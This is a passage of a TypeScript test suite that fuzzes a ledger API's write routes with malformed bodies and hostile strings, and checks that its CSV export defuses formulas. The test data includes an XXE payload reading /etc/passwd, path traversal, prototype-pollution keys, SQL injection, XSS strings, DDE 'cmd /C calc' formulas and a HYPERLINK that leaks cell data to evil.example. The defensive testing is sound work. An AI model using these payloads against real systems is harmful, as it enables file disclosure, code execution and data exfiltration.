/**
 * Hostile input. Every write route is fed garbage — generated bodies (fast-check) with wrong
 * types, missing and extra fields, huge strings and numbers, prototype keys, control characters,
 * impossible dates, malformed amounts; raw bodies with huge number literals, deep nesting and
 * oversize payloads; wrong content types; bytes that are not UTF-8 — by a caller the route lets
 * in, so every request reaches validation. Each one must answer 4xx application/problem+json
 * with {type, title, status, detail, code} and append nothing; afterwards the server is healthy.
 *
 * Then the other half: text that is dangerous somewhere else (=HYPERLINK, <script>, right-to-left
 * script, emoji) but allowed here is stored exactly as given and comes out of the CSV export
 * defused. Bidirectional controls and invisible format characters are not allowed: they are
 * refused like control characters (issue 13 item 9).
 *
 * RELIABILITY_SEED=<n> replays the generated bodies of a run (the seed is printed).
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_BODY_BYTES } from '../../src/http/app.ts';
import { CSV_CONTENT_TYPE, defuseFormulas, startsLikeFormula } from '../../src/export/csv.ts';
import { HttpProblem } from '../../src/http/plugins/errors.ts';
import {
  AUDIT_CSV_HEADER,
  auditEntriesForExport,
  auditEventReader,
} from '../../src/http/routes/reports.ts';
import { columnAt } from '../../projections/columns.ts';
import {
  allEvents,
  allocate,
  expectProblem,
  expectWritten,
  scenarioCtx,
  type Json,
} from '../http/helpers.ts';
import { recordFigures } from '../support/figures.ts';
import type { TestLedger } from '../support/testLedger.ts';
import { readCsv } from './hostileCsvReader.ts';
import {
  BAD_AMOUNT_TEXTS,
  BAD_DATE_TEXTS,
  bodyWithBytesIn,
  excerpt,
  forbiddenControls,
  HOSTILE_ROUTES,
  HUGE_NUMBER_LITERALS,
  INVALID_UTF8,
  jsonText,
  LONE_SURROGATE_ESCAPES,
  mutatedBody,
  nestedArrays,
  nestedObjects,
  PROTOTYPE_KEYS,
  randomBody,
  refusalDefect,
  withKey,
  type FieldKind,
  type Garbage,
  type HostileFixture,
  type HostileRoute,
} from './hostileGarbage.ts';
import { seedFromEnv } from './seededRandom.ts';

/** Bidi controls and invisible format characters (events/hiddenCharacters.ts): refused in every text field. */
const HIDDEN_CHARACTERS: readonly string[] = [
  '\u202A',
  '\u202B',
  '\u202C',
  '\u202D',
  '\u202E',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200E',
  '\u200F',
  '\u061C',
  '\u200B',
  '\u200C',
  '\u200D',
  '\u2060',
  '\uFEFF',
  '\u00AD',
  '\u{E0067}',
];

/** Generated bodies per write route: with the sweeps below, the file stays well under 30 s. */
const GENERATED_BODIES_PER_ROUTE = 400;
const DEEP_NESTING_LEVELS = [10_000, 100_000] as const;
const HUGE_STRING_CHARS = 100_000;
const seed = seedFromEnv();

const WRONG_CONTENT_TYPES: readonly (string | null)[] = [
  'text/plain',
  'text/plain; charset=utf-8',
  'application/xml',
  'text/xml',
  'multipart/form-data; boundary=hostile',
  'application/x-www-form-urlencoded',
  'application/jsonx',
  'application/vnd.api+json',
  'application/json-patch+json',
  'text/json',
  'application/javascript',
  'application/octet-stream',
  '*/*',
  'application',
  ';',
  null,
];

// ---------------------------------------------------------------------------------------------
// Sending garbage and keeping count.

interface HostileRequest {
  readonly label: string;
  readonly url: string;
  readonly token: string | null;
  readonly payload?: string | Buffer;
  /** Defaults to application/json; null sends no Content-Type at all. */
  readonly contentType?: string | null;
  readonly headers?: Record<string, string>;
}

const tally = {
  sent: 0,
  refusedProperly: 0,
  answeredOtherwise: 0,
  appended: 0n,
  generated: 0,
  controlCharacterCases: 0,
  hiddenCharacterCases: 0,
  encodingCases: 0,
  largestBodyBytes: 0,
  statuses: new Map<number, number>(),
  storedExactly: 0,
  csvCellsChecked: 0,
  csvCellsDefused: 0,
};

/** Sends one hostile request; returns null when it was refused properly, or a reproduction of what went wrong. */
async function sendHostile(ledger: TestLedger, request: HostileRequest): Promise<string | null> {
  const contentType = request.contentType === undefined ? 'application/json' : request.contentType;
  const headers: Record<string, string> = {
    ...(request.token === null ? {} : { authorization: `Bearer ${request.token}` }),
    ...(contentType === null ? {} : { 'content-type': contentType }),
    ...request.headers,
  };
  const before = await ledger.store.headPosition();
  const res = await ledger.app.inject({
    method: 'POST',
    url: request.url,
    headers,
    ...(request.payload === undefined ? {} : { payload: request.payload }),
  });
  const after = await ledger.store.headPosition();

  tally.sent += 1;
  tally.statuses.set(res.statusCode, (tally.statuses.get(res.statusCode) ?? 0) + 1);
  if (request.payload !== undefined)
    tally.largestBodyBytes = Math.max(tally.largestBodyBytes, Buffer.byteLength(request.payload));
  const defects: string[] = [];
  const defect = refusalDefect(res);
  if (defect !== null) defects.push(defect);
  if (after !== before) {
    tally.appended += after - before;
    defects.push(`appended ${after - before} event(s)`);
  }
  if (defects.length === 0) {
    tally.refusedProperly += 1;
    return null;
  }
  tally.answeredOtherwise += 1;
  return (
    `${request.label}: ${defects.join('; ')}\n` +
    `  reproduce: POST ${request.url} content-type=${JSON.stringify(contentType)} body=${excerpt(request.payload)}\n` +
    `  answer: ${res.statusCode} ${String(res.headers['content-type'] ?? '')} ${res.body.slice(0, 300)}`
  );
}

/** Sends each request and fails once at the end with every reproduction, so one run shows all defects. */
async function expectAllRefused(
  ledger: TestLedger,
  requests: Iterable<HostileRequest>,
): Promise<number> {
  const failures: string[] = [];
  let count = 0;
  for (const request of requests) {
    count += 1;
    const failure = await sendHostile(ledger, request);
    if (failure !== null) failures.push(failure);
  }
  if (failures.length > 0) {
    // Every failing case by its first line, then a few in full: enough to reproduce, short enough to read.
    const firstLines = failures.map((failure) => `  - ${failure.split('\n')[0]}`);
    throw new Error(
      `${failures.length} of ${count} hostile requests were not refused properly:\n${firstLines.join('\n')}\n\nThe first ones in full:\n${failures.slice(0, 3).join('\n')}`,
    );
  }
  return count;
}

function textFields(route: HostileRoute) {
  return route.fields.filter(
    (f): f is typeof f & { type: FieldKind & { kind: 'text' } } => f.type.kind === 'text',
  );
}

async function hostileFixture(): Promise<HostileFixture> {
  const ctx = await scenarioCtx();
  // The allocations the reversal route undoes fund an intervention of their own: the outcomes the
  // outcome route records stand on the scenario intervention's funding, which may not go under them.
  const reversible = expectWritten(
    await ctx.ledger.post(`/v1/pots/${ctx.potId}/interventions`, ctx.tokens.admin, {
      name: 'Reversible',
      leadAgencyId: 'essex-cc',
    }),
    ['interventionId'],
  ).interventionId as string;
  const allocation = async () =>
    expectWritten(await allocate(ctx, '1000.00', { interventionId: reversible }), [
      'allocationId',
      'status',
      'fundingShares',
    ]).eventId as string;
  const first = await allocation();
  const second = await allocation();
  return { ...ctx, allocationEventIds: [first, second] };
}

afterAll(() => {
  const statuses = [...tally.statuses]
    .sort(([a], [b]) => a - b)
    .map(([status, n]) => `${status}×${n}`)
    .join(' ');
  recordFigures('hostile-input', {
    'hostile requests sent': tally.sent,
    'answered 4xx problem+json': tally.refusedProperly,
    'answered otherwise (2xx, 5xx or not problem+json)': tally.answeredOtherwise,
    'appended by them': Number(tally.appended),
    'write routes covered': HOSTILE_ROUTES.length,
    'generated bodies (fast-check)': tally.generated,
    'control-character cases': tally.controlCharacterCases,
    'bidi-control and invisible-character cases': tally.hiddenCharacterCases,
    'invalid UTF-8 and unpaired-surrogate cases': tally.encodingCases,
    'deepest nesting sent (levels)': Math.max(...DEEP_NESTING_LEVELS),
    'largest body sent (bytes)': tally.largestBodyBytes,
    'answers by status': statuses,
    'dangerous-but-allowed text fields stored exactly': tally.storedExactly,
    'CSV cells checked': tally.csvCellsChecked,
    'CSV cells defused': tally.csvCellsDefused,
    seed,
  });
});

// ---------------------------------------------------------------------------------------------

describe('hostile input: every write route answers garbage with a 4xx problem and appends nothing', () => {
  let f: HostileFixture;
  let headAtStart: bigint;

  beforeAll(async () => {
    f = await hostileFixture();
    headAtStart = await f.ledger.store.headPosition();
    console.log(`[hostile-input] seed ${seed} — replay with RELIABILITY_SEED=${seed}`);
  });
  afterAll(async () => {
    await f?.ledger.close();
  });

  for (const route of HOSTILE_ROUTES) {
    it(`${route.name}: ${GENERATED_BODIES_PER_ROUTE} generated garbage bodies`, async () => {
      const garbage = fc.oneof(
        { weight: 4, arbitrary: mutatedBody(route, route.body(f)) },
        { weight: 1, arbitrary: randomBody(route) },
      );
      await fc.assert(
        fc.asyncProperty(garbage, async (g: Garbage) => {
          tally.generated += 1;
          const failure = await sendHostile(f.ledger, {
            label: g.labels.join(' + '),
            url: route.url(f),
            token: route.token(f),
            payload: jsonText(g.body),
          });
          if (failure !== null) throw new Error(failure);
        }),
        { numRuns: GENERATED_BODIES_PER_ROUTE, seed },
      );
    });
  }

  it('control characters (every C0, DEL and C1) in every text field of every route', async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      for (const field of textFields(route)) {
        for (const control of forbiddenControls(field.type)) {
          for (const text of [`Hostile${control}text`, `${control}Hostile`, `Hostile${control}`]) {
            requests.push({
              label: `U+${control.charCodeAt(0).toString(16).padStart(4, '0')} in ${route.name} ${field.name}`,
              url: route.url(f),
              token: route.token(f),
              payload: jsonText(withKey(route.body(f), field.name, text)),
            });
          }
        }
      }
    }
    tally.controlCharacterCases += await expectAllRefused(f.ledger, requests);
  });

  it('bidirectional controls and invisible format characters in every text field of every route', async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      for (const field of textFields(route)) {
        for (const hidden of HIDDEN_CHARACTERS) {
          for (const text of [`PO-1${hidden}gnp.exe`, `${hidden}Hostile`, `Hostile${hidden}`]) {
            requests.push({
              label: `U+${hidden.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} in ${route.name} ${field.name}`,
              url: route.url(f),
              token: route.token(f),
              payload: jsonText(withKey(route.body(f), field.name, text)),
            });
          }
        }
      }
    }
    tally.hiddenCharacterCases += await expectAllRefused(f.ledger, requests);
  });

  it('impossible dates and malformed amounts (exponents, 3 decimals, signs, separators, other digits) in every date and amount field', async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      for (const field of route.fields) {
        const values: readonly unknown[] =
          field.type.kind === 'date'
            ? [...BAD_DATE_TEXTS, 20250401]
            : field.type.kind === 'amount'
              ? [...BAD_AMOUNT_TEXTS, 100, 100.5, 1e3, -1, 0]
              : field.type.kind === 'benefits'
                ? [...BAD_AMOUNT_TEXTS, 5].map((amount) => [
                    { agencyId: 'nhs-mid-essex', amount, cashable: false },
                  ])
                : [];
        for (const value of values) {
          requests.push({
            label: `${route.name} ${field.name} = ${JSON.stringify(value)}`,
            url: route.url(f),
            token: route.token(f),
            payload: jsonText(withKey(route.body(f), field.name, value)),
          });
        }
      }
    }
    await expectAllRefused(f.ledger, requests);
  });

  it(`raw bodies: huge number literals, ${HUGE_STRING_CHARS.toLocaleString('en-GB')}-character strings, nesting ${DEEP_NESTING_LEVELS.join(' and ')} levels deep, prototype keys at depth, bodies over 1 MiB`, async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      const valid = route.body(f);
      const base = { url: route.url(f), token: route.token(f) };
      const fieldNames = route.fields.map((field) => field.name);
      for (const literal of HUGE_NUMBER_LITERALS) {
        for (const name of fieldNames)
          requests.push({
            ...base,
            label: `${route.name} ${name} = ${literal.text.slice(0, 40)}`,
            payload: jsonText(withKey(valid, name, literal)),
          });
      }
      for (const name of fieldNames) {
        requests.push({
          ...base,
          label: `${route.name} ${name} = ${HUGE_STRING_CHARS} chars`,
          payload: jsonText(withKey(valid, name, 'x'.repeat(HUGE_STRING_CHARS))),
        });
      }
      for (const depth of DEEP_NESTING_LEVELS) {
        requests.push({
          ...base,
          label: `${route.name} body = arrays ${depth} deep`,
          payload: nestedArrays(depth),
        });
        requests.push({
          ...base,
          label: `${route.name} body = objects ${depth} deep`,
          payload: nestedObjects(depth),
        });
        const [first] = fieldNames;
        const inField = jsonText(withKey(valid, first!, 'NESTING-GOES-HERE')).replace(
          '"NESTING-GOES-HERE"',
          nestedArrays(depth),
        );
        requests.push({
          ...base,
          label: `${route.name} ${first} = arrays ${depth} deep`,
          payload: inField,
        });
        const extra = jsonText(withKey(valid, 'extra', 'NESTING-GOES-HERE'));
        requests.push({
          ...base,
          label: `${route.name} extra field objects ${depth} deep`,
          payload: extra.replace('"NESTING-GOES-HERE"', nestedObjects(depth)),
        });
        for (const key of PROTOTYPE_KEYS) {
          const poisoned = nestedObjects(
            depth,
            `{${JSON.stringify(key)}:{"prototype":{"isAdmin":true},"isAdmin":true}}`,
          );
          requests.push({
            ...base,
            label: `${route.name} ${key} ${depth} levels down`,
            payload: extra.replace('"NESTING-GOES-HERE"', poisoned),
          });
        }
      }
      for (const key of PROTOTYPE_KEYS) {
        // The prototype key first, then the valid fields: a parser that merged it into the body would see a valid command.
        requests.push({
          ...base,
          label: `${route.name} leading ${key} key`,
          payload: `{${JSON.stringify(key)}:{"prototype":{"isAdmin":true}},${jsonText(valid).slice(1)}`,
        });
      }
      const oversize = jsonText(withKey(valid, 'padding', 'x'.repeat(MAX_BODY_BYTES)));
      requests.push({
        ...base,
        label: `${route.name} body of ${Buffer.byteLength(oversize)} bytes`,
        payload: oversize,
      });
      const [firstText] = textFields(route);
      if (firstText !== undefined) {
        const hugeText = jsonText(
          withKey(valid, firstText.name, '💸'.repeat(MAX_BODY_BYTES / 4 + 1)),
        );
        requests.push({
          ...base,
          label: `${route.name} ${firstText.name} over 1 MiB of emoji`,
          payload: hugeText,
        });
      }
      requests.push({
        ...base,
        label: `${route.name} 1 MiB + 1 byte of spaces around a valid body`,
        payload: `${' '.repeat(MAX_BODY_BYTES)}${jsonText(valid)}`,
      });
      for (const payload of [
        '',
        ' ',
        'null',
        'true',
        '0',
        '"a string"',
        '[]',
        '{',
        '}',
        '{"a":1,}',
        "{'a':1}",
        '{"a":NaN}',
        '{"a":undefined}',
        '\u0000',
        '{}',
        '[{}]',
      ]) {
        requests.push({ ...base, label: `${route.name} body ${JSON.stringify(payload)}`, payload });
      }
    }
    await expectAllRefused(f.ledger, requests);
  });

  it('wrong content types (text/plain, XML, multipart, form, look-alikes of JSON, none) with a valid JSON body', async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      for (const contentType of WRONG_CONTENT_TYPES) {
        requests.push({
          label: `${route.name} as ${String(contentType)}`,
          url: route.url(f),
          token: route.token(f),
          payload: jsonText(route.body(f)),
          contentType,
        });
      }
      requests.push({
        label: `${route.name} as a real multipart form`,
        url: route.url(f),
        token: route.token(f),
        contentType: 'multipart/form-data; boundary=hostile',
        payload: `--hostile\r\nContent-Disposition: form-data; name="body"\r\n\r\n${jsonText(route.body(f))}\r\n--hostile--\r\n`,
      });
      requests.push({
        label: `${route.name} as XML`,
        url: route.url(f),
        token: route.token(f),
        contentType: 'application/xml',
        payload:
          '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
      });
    }
    await expectAllRefused(f.ledger, requests);
  });

  it('garbage in the path parameters of the pot routes', async () => {
    const badIds = [
      'not-a-ulid',
      '__proto__',
      'constructor',
      '..%2F..%2Fetc%2Fpasswd',
      '%00',
      '%E0%A4%A',
      '%ZZ',
      '%F0%9F%92%B8',
      'x'.repeat(300),
      '01ARZ3NDEKTSV4RRFFQ69G5FAI',
      '7ZZZZZZZZZZZZZZZZZZZZZZZZZ',
    ];
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      if (route.urlWith === undefined) continue;
      for (const bad of badIds) {
        requests.push({
          label: `${route.name} with potId ${bad.slice(0, 40)}`,
          url: route.urlWith(f, { potId: bad }),
          token: route.token(f),
          payload: jsonText(route.body(f)),
        });
        if (route.name.includes(':interventionId')) {
          requests.push({
            label: `${route.name} with interventionId ${bad.slice(0, 40)}`,
            url: route.urlWith(f, { interventionId: bad }),
            token: route.token(f),
            payload: jsonText(route.body(f)),
          });
        }
      }
    }
    await expectAllRefused(f.ledger, requests);
  });

  it('afterwards: the log head has not moved, /health answers 200, and every route still accepts its valid body', async () => {
    expect(await f.ledger.store.headPosition(), 'hostile requests appended to the log').toBe(
      headAtStart,
    );
    const health = await f.ledger.get('/health', null);
    expect(health.statusCode, health.body).toBe(200);
    expect(health.json()).toMatchObject({
      status: 'ok',
      store: 'ok',
      headPosition: headAtStart.toString(),
    });
    // The valid bodies the garbage was made from are accepted: the garbage was wrong because of what was done to it.
    for (const route of HOSTILE_ROUTES) {
      const res = await f.ledger.post(route.url(f), route.token(f), route.body(f));
      expect(res.statusCode, `${route.name}: ${res.body}`).toBe(201);
    }
  });
});

describe('hostile input: bytes that are not Unicode text', () => {
  let f: HostileFixture;
  /** Allocations to aim reversals at, one per case, so a wrongly accepted case cannot hide the next behind ALREADY_REVERSED. */
  const spareAllocations: string[] = [];
  let cases = 0;
  let reversals = 0;
  beforeAll(async () => {
    f = await hostileFixture();
    for (let i = 0; i < INVALID_UTF8.length + LONE_SURROGATE_ESCAPES.length; i++) {
      spareAllocations.push(
        expectWritten(await allocate(f, '1.00'), ['allocationId', 'status', 'fundingShares'])
          .eventId as string,
      );
    }
  });
  afterAll(async () => {
    await f?.ledger.close();
  });

  /** The route's valid body, made distinct per case where a repeat would be refused for being a repeat (409). */
  function distinctBody(route: HostileRoute): Record<string, unknown> {
    cases += 1;
    const body = route.body(f);
    if (route.name === 'POST /v1/agencies')
      return withKey(body, 'agencyId', `hostile-agency-${cases}`);
    if (route.name === 'POST /v1/pots/:potId/reversals')
      return withKey(body, 'eventId', spareAllocations[reversals++ % spareAllocations.length]);
    return body;
  }

  // Known defect when written: fastify decodes the body as UTF-8 with replacement, so invalid
  // bytes in a text field become U+FFFD and the command is accepted — the ledger then holds
  // text the client never sent. See the report for the fix (a strict decoder in the JSON parser).
  it('invalid UTF-8 (stray, overlong, truncated, surrogate, beyond U+10FFFF, Latin-1) inside every text field is refused', async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      for (const field of textFields(route)) {
        for (const { name, bytes } of INVALID_UTF8) {
          requests.push({
            label: `${name} in ${route.name} ${field.name}`,
            url: route.url(f),
            token: route.token(f),
            payload: bodyWithBytesIn(distinctBody(route), field.name, bytes),
          });
        }
      }
    }
    tally.encodingCases += requests.length;
    await expectAllRefused(f.ledger, requests);
  });

  // Known defect when written: "\ud800" is valid JSON syntax but not a Unicode scalar value; it
  // passes the text schema and is stored, and the CSV export (UTF-8) cannot write it back.
  it('unpaired UTF-16 surrogate escapes inside every text field are refused', async () => {
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      for (const field of textFields(route)) {
        for (const escape of LONE_SURROGATE_ESCAPES) {
          const payload = jsonText(
            withKey(distinctBody(route), field.name, 'Hostile SURROGATE text'),
          ).replace('SURROGATE', escape);
          requests.push({
            label: `${escape} in ${route.name} ${field.name}`,
            url: route.url(f),
            token: route.token(f),
            payload,
          });
        }
      }
    }
    tally.encodingCases += requests.length;
    await expectAllRefused(f.ledger, requests);
  });

  it('bodies that are not UTF-8 JSON at all: UTF-16 (labelled or with a BOM), gzip, raw binary', async () => {
    const { gzipSync } = await import('node:zlib');
    const requests: HostileRequest[] = [];
    for (const route of HOSTILE_ROUTES) {
      const json = jsonText(route.body(f));
      const base = { url: route.url(f), token: route.token(f) };
      requests.push({
        ...base,
        label: `${route.name} UTF-16LE body`,
        payload: Buffer.from(json, 'utf16le'),
        contentType: 'application/json; charset=utf-16',
      });
      requests.push({
        ...base,
        label: `${route.name} UTF-16LE body with BOM, no charset`,
        payload: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, 'utf16le')]),
      });
      requests.push({
        ...base,
        label: `${route.name} gzip body`,
        payload: gzipSync(json),
        headers: { 'content-encoding': 'gzip' },
      });
      requests.push({
        ...base,
        label: `${route.name} binary body`,
        payload: Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 131 + 7) % 256)),
      });
    }
    tally.encodingCases += requests.length;
    await expectAllRefused(f.ledger, requests);
  });
});

// ---------------------------------------------------------------------------------------------

/** Allowed everywhere: no control characters, within every limit. Dangerous only in someone else's renderer. */
const DANGEROUS_SINGLE_LINE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '<script>alert("pwned")</script>',
  '<img src=x onerror=alert(1)>',
  // Right-to-left script and emoji are fine; the bidi controls and invisible characters that
  // used to stand here are refused now (issue 13 item 9: see the hidden-character sweep above).
  'gnp.exe مجلس مقاطعة إسكس mixed',
  'Pooled 💸 budget 🏦',
  "Robert'); DROP TABLE events;--",
  '{{7*7}} ${7*7} %s %n %x',
  '"quoted", with, commas',
  'combining Z̴̡a̶l̷g̴o̵',
  "'already quoted",
];
/** Multi-line fields (reason, description) also keep line breaks and tabs, even leading ones. */
const DANGEROUS_MULTILINE_ONLY: readonly string[] = [
  '\t=1+1 after a tab',
  "=cmd|' /C calc'!A0\r\nsecond line",
  'first line\n@SUM(A1)',
  '\r\n-leading line break',
];

describe('dangerous but allowed text: stored exactly as given, exported defused', () => {
  let f: HostileFixture;
  /** Per written event, the text fields as sent. */
  const sent: { eventId: string; route: string; fields: Record<string, string> }[] = [];
  const FORMULA_SUBS = [
    '=HYPERLINK("http://evil.example/?who="&A1,"me")',
    '@evil',
    '-1+1',
    '+cmd',
  ] as const;

  beforeAll(async () => {
    f = await hostileFixture();
    const { ledger, potId, interventionId } = f;
    const admins = FORMULA_SUBS.map((sub) => ledger.token('admin', { sub }));
    const officers = FORMULA_SUBS.map((sub) =>
      ledger.token('finance-officer', { sub, agency: 'essex-cc' }),
    );
    const write = async (
      route: string,
      url: string,
      token: string,
      body: Record<string, unknown>,
      textKeys: readonly string[],
    ) => {
      const res = await ledger.post(url, token, body);
      expect(res.statusCode, `${route} with ${JSON.stringify(body)}: ${res.body}`).toBe(201);
      const answer = res.json() as Json;
      sent.push({
        eventId: answer.eventId as string,
        route,
        fields: Object.fromEntries(textKeys.map((k) => [k, body[k] as string])),
      });
      return answer;
    };
    // The outcomes below stand on this funding; each allocation written after them can be reversed.
    expectWritten(await allocate(f, '100.00'), ['allocationId', 'status', 'fundingShares']);
    const multiline = [...DANGEROUS_SINGLE_LINE, ...DANGEROUS_MULTILINE_ONLY];
    for (const [i, multi] of multiline.entries()) {
      const single = DANGEROUS_SINGLE_LINE[i % DANGEROUS_SINGLE_LINE.length]!;
      const admin = admins[i % admins.length]!;
      const officer = officers[i % officers.length]!;
      await write(
        'agency',
        '/v1/agencies',
        admin,
        { agencyId: `danger-${i}`, name: single, kind: 'other' },
        ['name'],
      );
      const pot = await write(
        'pot',
        '/v1/pots',
        admin,
        { name: single, area: single, hostAgencyId: 'essex-cc' },
        ['name', 'area'],
      );
      await write(
        'partner',
        `/v1/pots/${pot.potId}/partners`,
        admin,
        { agencyId: `danger-${i}` },
        [],
      );
      await write(
        'contribution',
        `/v1/pots/${potId}/contributions`,
        officer,
        { agencyId: 'essex-cc', amount: '10.00', effectiveDate: '2025-05-01', reference: single },
        ['reference'],
      );
      await write(
        'intervention',
        `/v1/pots/${potId}/interventions`,
        admin,
        { name: single, leadAgencyId: 'essex-police', description: multi },
        ['name', 'description'],
      );
      await write(
        'outcome',
        `/v1/pots/${potId}/interventions/${interventionId}/outcomes`,
        admin,
        {
          description: multi,
          effectiveDate: '2025-09-30',
          evidenceRef: single,
          benefits: [{ agencyId: 'nhs-mid-essex', amount: '1.00', cashable: true }],
        },
        ['description', 'evidenceRef'],
      );
      const allocation = await write(
        'allocation',
        `/v1/pots/${potId}/allocations`,
        admin,
        { interventionId, amount: '1.00', effectiveDate: '2025-05-02', reason: multi },
        ['reason'],
      );
      await write(
        'reversal',
        `/v1/pots/${potId}/reversals`,
        admin,
        { eventId: allocation.eventId, reason: multi },
        ['reason'],
      );
    }
  });
  afterAll(async () => {
    await f?.ledger.close();
  });

  it('every text field reads back from GET /v1/events exactly as it was sent', async () => {
    const byId = new Map((await allEvents(f.ledger)).map((e) => [e.eventId as string, e]));
    const mismatches: string[] = [];
    for (const write of sent) {
      const event = byId.get(write.eventId);
      if (event === undefined) {
        mismatches.push(`${write.route} ${write.eventId}: not in the log`);
        continue;
      }
      for (const [key, value] of Object.entries(write.fields)) {
        if (event.data[key] === value) tally.storedExactly += 1;
        else
          mismatches.push(
            `${write.route} ${key}: sent ${JSON.stringify(value)}, stored ${JSON.stringify(event.data[key])}`,
          );
      }
    }
    expect(mismatches).toEqual([]);
    expect(tally.storedExactly).toBeGreaterThan(100);
  });

  it('GET /v1/audit/export.csv: BOM, header, one row per audit entry, RFC 4180, and every formula-like text cell defused', async () => {
    const entries: Json[] = [];
    for (let cursor: string | null = ''; cursor !== null;) {
      const page = await f.ledger.get(
        `/v1/audit?limit=1000${cursor === '' ? '' : `&cursor=${cursor}`}`,
        f.tokens.auditor,
      );
      expect(page.statusCode, page.body).toBe(200);
      entries.push(...(page.json().entries as Json[]));
      cursor = page.json().nextCursor as string | null;
    }
    const res = await f.ledger.get('/v1/audit/export.csv', f.tokens.auditor);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(CSV_CONTENT_TYPE);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[^"]+\.csv"$/);
    expect(
      res.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])),
      'no UTF-8 byte order mark',
    ).toBe(true);

    const file = readCsv(res.body);
    expect(file.hasBom).toBe(true);
    expect(file.records[0]).toEqual([...AUDIT_CSV_HEADER]);
    const rows = file.records.slice(1);
    expect(rows).toHaveLength(entries.length);
    const mismatches: string[] = [];
    rows.forEach((row, i) => {
      const e = entries[i]!;
      const expected = [
        e.position,
        e.recordedAt,
        e.effectiveDate,
        e.type,
        e.amount,
        e.actor.sub,
        e.actor.role,
        e.actor.agencyId,
        e.potId,
        e.summary,
        e.reason,
        e.commandId,
        e.correlationId,
        e.eventId,
      ] as (string | undefined)[];
      expect(row).toHaveLength(expected.length);
      expected.forEach((value, c) => {
        tally.csvCellsChecked += 1;
        const cell = row[c]!;
        // The exact rule (first character, and after a separator) is modelled in csv.test.ts.
        const want = value === undefined ? '' : defuseFormulas(value);
        if (cell !== want)
          mismatches.push(
            `row ${i + 1} ${AUDIT_CSV_HEADER[c]}: ${JSON.stringify(cell)}, expected ${JSON.stringify(want)}`,
          );
        if (value !== undefined && want !== value) tally.csvCellsDefused += 1;
        if (startsLikeFormula(cell))
          mismatches.push(
            `row ${i + 1} ${AUDIT_CSV_HEADER[c]} still starts like a formula: ${JSON.stringify(cell)}`,
          );
      });
    });
    expect(mismatches).toEqual([]);

    // The cases that matter, by name: reasons, actors and summaries that would have run.
    const column = (name: (typeof AUDIT_CSV_HEADER)[number]) =>
      rows.map((row) => row[AUDIT_CSV_HEADER.indexOf(name)]!);
    expect(column('reason')).toContain(
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
    );
    expect(column('reason')).toContain("'\t=1+1 after a tab");
    expect(column('reason')).toContain("'\r\n'-leading line break"); // the start, and the - after the line break
    expect(column('actorSub')).toContain(`'${FORMULA_SUBS[0]}`);
    expect(column('summary').some((s) => s.startsWith("'@evil (finance officer"))).toBe(true);
    expect(column('reason')).toContain("'already quoted");
    expect(tally.csvCellsDefused).toBeGreaterThan(50);
  });

  it('agency ids that are JavaScript property names ("constructor", "prototype") are unknown until registered, then ordinary agencies', async () => {
    const { ledger, tokens } = f;
    for (const agencyId of ['constructor', 'prototype']) {
      expectProblem(
        await ledger.get(`/v1/agencies/${agencyId}/balances`, tokens.admin),
        404,
        'NOT_FOUND',
      );
      const before = await ledger.store.headPosition();
      const join = await ledger.post(`/v1/pots/${f.potId}/partners`, tokens.admin, { agencyId });
      expect(join.statusCode, join.body).toBeGreaterThanOrEqual(400);
      expect(join.statusCode, join.body).toBeLessThan(500);
      expect(await ledger.store.headPosition()).toBe(before);
      expectWritten(
        await ledger.post('/v1/agencies', tokens.admin, {
          agencyId,
          name: `Agency called ${agencyId}`,
          kind: 'other',
        }),
        ['agencyId'],
      );
    }
    const pot = expectWritten(
      await ledger.post('/v1/pots', tokens.admin, {
        name: 'Prototype pot',
        area: 'Essex',
        hostAgencyId: 'constructor',
        partnerAgencyIds: ['prototype'],
      }),
      ['potId'],
    );
    const officer = ledger.token('finance-officer', { sub: 'proto', agency: 'constructor' });
    expectWritten(
      await ledger.post(`/v1/pots/${pot.potId}/contributions`, officer, {
        agencyId: 'constructor',
        amount: '250.00',
        effectiveDate: '2025-05-01',
        reference: 'PROTO-1',
      }),
      ['contributionId'],
    );
    const balances = await ledger.get('/v1/agencies/constructor/balances', tokens.reporter);
    expect(balances.statusCode, balances.body).toBe(200);
    expect(balances.json().total).toMatchObject({ contributed: '250.00', stake: '250.00' });
    const summary = (await ledger.get(`/v1/pots/${pot.potId}`, tokens.reporter)).json();
    expect(summary.partners.map((p: Json) => p.agencyId)).toEqual(['constructor', 'prototype']);
  });

  it('the JSON answers stay JSON: text is never served as HTML', async () => {
    for (const url of [
      '/v1/events?limit=1000',
      '/v1/audit?limit=1000',
      `/v1/pots/${f.potId}`,
      '/v1/agencies',
    ]) {
      const res = await f.ledger.get(url, f.tokens.auditor);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toMatch(/^application\/json(;|$)/);
    }
  });
});

describe('GET /v1/audit/export.csv: filters, access and the row cap', () => {
  let f: HostileFixture;
  beforeAll(async () => {
    f = await hostileFixture();
  });
  afterAll(async () => {
    await f?.ledger.close();
  });

  it('applies the GET /v1/audit filters and refuses malformed ones with a problem', async () => {
    const csvPositions = async (query: string) => {
      const res = await f.ledger.get(`/v1/audit/export.csv?${query}`, f.tokens.admin);
